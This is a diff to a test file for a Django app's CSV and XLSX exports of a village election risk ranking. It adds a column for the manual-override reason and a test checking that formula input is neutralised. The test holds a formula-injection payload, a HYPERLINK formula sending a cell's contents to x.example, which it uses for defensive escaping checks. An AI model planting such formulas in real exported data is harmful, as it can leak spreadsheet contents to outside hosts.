@@ -46,7 +46,14 @@ def test_csv_lists_every_village_in_ranking_order(client, world):
     assert [r[0] for r in rows] == [str(n) for n in range(1, len(expected) + 1)]
     first = rows[0]
     assert first[1] == world.own[2].desa.code
-    assert (first[2], first[5], first[6]) == (world.own[2].desa.name, "Sangat Rawan", "ya")
+    assert (first[2], first[5], first[6], first[7]) == (
+        world.own[2].desa.name,
+        "Sangat Rawan",
+        "ya",
+        "Bentrok",
+    )
+    assert header[6:8] == ["Ditetapkan manual", "Alasan penetapan"]
+    assert {r[7] for r in rows[1:]} == {""}
     assert first[3] == world.own[2].desa.kecamatan.name and first[4] == world.unit.name
 
 
@@ -69,7 +76,24 @@ def test_xlsx_holds_the_same_rows(client, world):
     assert values[1][1] == "Kode desa"
     table = ranking_table(operation=world.operation)
     assert [row[1] for row in values[2:]] == [row[0] for row in table]
-    assert [row[7] for row in values[2:]] == [float(row[6]) for row in table]
+    assert [row[8] for row in values[2:]] == [float(row[7]) for row in table]
+    assert values[2][7] == "Bentrok"
+
+
+def test_a_reason_typed_as_a_formula_stays_text(client, world):
+    risk_override(
+        village_election=world.own[2],
+        level=RiskLevel.SANGAT_RAWAN,
+        reason='=HYPERLINK("http://x.example/?"&A1,"klik")',
+        by=world.kabag,
+    )
+    _login(client, world.kabag)
+    rows = _csv(client.get(reverse("ranking-download", args=[world.operation.pk, "csv"])))[1:]
+    assert rows[0][7] == '\'=HYPERLINK("http://x.example/?"&A1,"klik")'
+    response = client.get(reverse("ranking-download", args=[world.operation.pk, "xlsx"]))
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    cell = list(sheet.iter_rows(min_row=3, max_row=3))[0][7]
+    assert cell.data_type == "s" and cell.value.startswith("'=")
 
 
 def test_ranking_page_links_the_download_with_its_filters(client, world):
